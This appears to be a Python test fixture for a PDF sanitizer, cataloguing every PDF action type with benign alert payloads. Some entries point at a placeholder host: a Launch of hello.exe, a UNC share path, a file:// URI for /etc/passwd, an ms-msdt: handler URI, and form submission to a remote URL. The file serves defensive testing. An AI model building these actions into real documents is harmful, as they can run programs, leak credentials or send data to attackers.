"""Every kind of action that ISO 32000 or a viewer knows, with a harmless payload. Data, but for what needs a stream.

Source: ISO 32000-2:2020, table 201 and 12.6.4; extension level 3 of ISO 32000-1 for rich media.
"""

from collections.abc import Callable
from typing import Final

from tests.sanitizers.pdf.poc_draft import HOST, PAGE, Draft, text

_SHARE: Final = text(f"\\\\{HOST}\\share\\a.pdf")
_WEB: Final = text(f"https://{HOST}/a")
_FILE: Final = b"<</Type/Filespec/F%b/UF%b>>" % (_SHARE, _SHARE)
_URL: Final = b"<</FS/URL/F%b>>" % _WEB
_SCRIPT: Final = b"app.alert('hello')"


def _plain(action: bytes) -> Callable[[Draft], bytes]:
    return lambda draft: action


def _script_in_a_stream(draft: Draft) -> bytes:
    return b"<</S/JavaScript/JS %b>>" % draft.add_stream(_SCRIPT)


def _rendition(draft: Draft) -> bytes:
    clip = b"<</Type/MediaClip/S/MCD/CT(video/mp4)/D %b/P<</TF(TEMPALWAYS)>>>>" % draft.add(_URL)
    return b"<</S/Rendition/OP 0/R<</Type/Rendition/S/MR/C %b>>>>" % clip


def _embedded(draft: Draft) -> bytes:
    file = draft.add_stream(b"%PDF-1.7 " + HOST.encode(), b"/Type/EmbeddedFile")
    return b"<</S/GoToE/D[0/Fit]/F<</Type/Filespec/F(a.pdf)/EF<</F %b>>>>/T<</R/C/N(a)>>>>" % file


def _sound(draft: Draft) -> bytes:
    return b"<</S/Sound/Sound %b>>" % draft.add_stream(b"\0\1" * 8, b"/Type/Sound/R 8000/B 8/C 1")


ACTIONS: Final[dict[str, tuple[str, Callable[[Draft], bytes]]]] = {
    # what it is: (vector, the action)
    "a script": ("PDF-10", _plain(b"<</S/JavaScript/JS(app.alert\\('hello'\\))>>")),
    "a script in UTF-16": ("PDF-10", _plain(b"<</S/JavaScript/JS<feff006100700070002e0061006c006500720074>>>")),
    "a script in a stream": ("PDF-10", _script_in_a_stream),
    "a script of a rendition": ("PDF-11", _plain(b"<</S/Rendition/JS(app.alert\\('hello'\\))>>")),
    "a program": ("PDF-12", _plain(b"<</S/Launch/F%b/NewWindow true>>" % _SHARE)),
    "a program of Windows": ("PDF-12", _plain(b"<</S/Launch/Win<</F(hello.exe)/P(%b)/O(open)>>>>" % HOST.encode())),
    "another file": ("PDF-13", _plain(b"<</S/GoToR/F%b/D[0/Fit]>>" % _SHARE)),
    "another file on the web": ("PDF-13", _plain(b"<</S/GoToR/F%b/D(a)>>" % _URL)),
    "an embedded file": ("PDF-14", _embedded),
    "an address of a file": ("PDF-16", _plain(b"<</S/URI/URI%b>>" % text(f"file://{HOST}/etc/passwd"))),
    "an address of a share": ("PDF-16", _plain(b"<</S/URI/URI%b>>" % _SHARE)),
    "an address that is a script": ("PDF-16", _plain(b"<</S/URI/URI%b>>" % text("JavaScript:app.alert(1)"))),
    "an address of a handler": ("PDF-16", _plain(b"<</S/URI/URI%b>>" % text(f"ms-msdt:/id {HOST}"))),
    "a form to send": ("PDF-19", _plain(b"<</S/SubmitForm/F%b/Flags 4>>" % _URL)),
    "a form to send as it is": ("PDF-19", _plain(b"<</S/SubmitForm/F%b/Flags 256/Fields[7 0 R]>>" % _FILE)),
    "data to import": ("PDF-20", _plain(b"<</S/ImportData/F%b>>" % _FILE)),
    "a thread elsewhere": ("PDF-21", _plain(b"<</S/Thread/F%b/D 0>>" % _FILE)),
    "a form to clear": ("PDF-22", _plain(b"<</S/ResetForm/Fields[7 0 R]>>")),
    "a note to hide": ("PDF-22", _plain(b"<</S/Hide/T 7 0 R/H true>>")),
    "a layer to show": ("PDF-22", _plain(b"<</S/SetOCGState/State[/Toggle]/PreserveRB true>>")),
    "a command of the viewer": ("PDF-22", _plain(b"<</S/Named/N/SaveAs>>")),
    "an effect": ("PDF-22", _plain(b"<</S/Trans/Trans<</Type/Trans/S/Glitter>>>>")),
    "a camera": ("PDF-22", _plain(b"<</S/GoTo3DView/TA 6 0 R/V/F>>")),
    "a part of the document": ("PDF-22", _plain(b"<</S/GoToDp/Dp %b>>" % PAGE)),
    "a rendition": ("PDF-23", _rendition),
    "a film": ("PDF-23", _plain(b"<</S/Movie/Annotation 6 0 R/Operation/Play>>")),
    "a sound": ("PDF-23", _sound),
    "rich media": ("PDF-23", _plain(b"<</S/RichMediaExecute/TA 6 0 R/CMD<</C(%b)>>>>" % HOST.encode())),
}
